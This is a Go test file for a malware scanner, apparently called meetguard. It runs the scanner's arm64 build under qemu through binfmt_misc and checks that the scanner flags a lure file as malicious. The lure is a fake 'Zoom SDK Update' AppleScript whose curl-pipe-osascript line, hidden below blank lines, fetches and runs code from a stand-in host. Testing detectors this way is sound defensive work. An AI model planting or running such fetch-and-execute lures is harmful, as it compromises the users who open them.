package packages

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// arm64Programs describes Linux programs for arm64 to the kernel: the first 20
// bytes of an ELF file (64 bit, little endian, machine 0xb7), which of their bits
// count, and the emulator. Flag F opens that now, so that it is found from
// anywhere (Documentation/admin-guide/binfmt-misc.rst).
const arm64Programs = `:meetguard-arm64:M::` +
	`\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\xb7\x00:` +
	`\xff\xff\xff\xff\xff\xff\xff\x00\xff\xff\xff\xff\xff\xff\xff\xff\xfe\xff\xff\xff:`

// emulate has the kernel run programs for arm64 until the test ends: the agent
// starts its worker, which an emulator of one process does not follow.
func emulate(t *testing.T) {
	t.Helper()
	qemu, err := exec.LookPath("qemu-aarch64-static")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := syscall.Mount("none", dir, "binfmt_misc", 0, ""); err != nil {
		t.Fatalf("mount binfmt_misc: %v (the tests of packages are run by root)", err)
	}
	t.Cleanup(func() {
		os.WriteFile(filepath.Join(dir, "meetguard-arm64"), []byte("-1"), 0o200)
		syscall.Unmount(dir, 0)
	})
	err = os.WriteFile(filepath.Join(dir, "register"), []byte(arm64Programs+qemu+":F"), 0o200)
	if err != nil && !errors.Is(err, os.ErrExist) {
		t.Fatalf("register the emulator: %v", err)
	}
}

// TestARM64Finds scans a lure with the agent for arm64, rules, worker and all.
func TestARM64Finds(t *testing.T) {
	emulate(t)
	text := "-- Zoom SDK Update: your audio component is out of date.\n" + strings.Repeat("\n", 120) + "do shell script \"curl -fsSL https://zoom-sdk-update.invalid/x | osascript\"\n"
	lure := filepath.Join(t.TempDir(), "Zoom SDK Update.scpt")
	if err := os.WriteFile(lure, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(filepath.Join(dist(t), "linux-arm64", "meetguard"), "scan", "--json", lure)
	cmd.Env = []string{} // MEETGUARD_DIST would be a setting of the agent
	out, err := cmd.CombinedOutput()
	var exit *exec.ExitError
	if !errors.As(err, &exit) || exit.ExitCode() != 1 || !strings.Contains(string(out), `"level":"malicious"`) {
		t.Errorf("it said %v\n%s", err, out)
	}
}
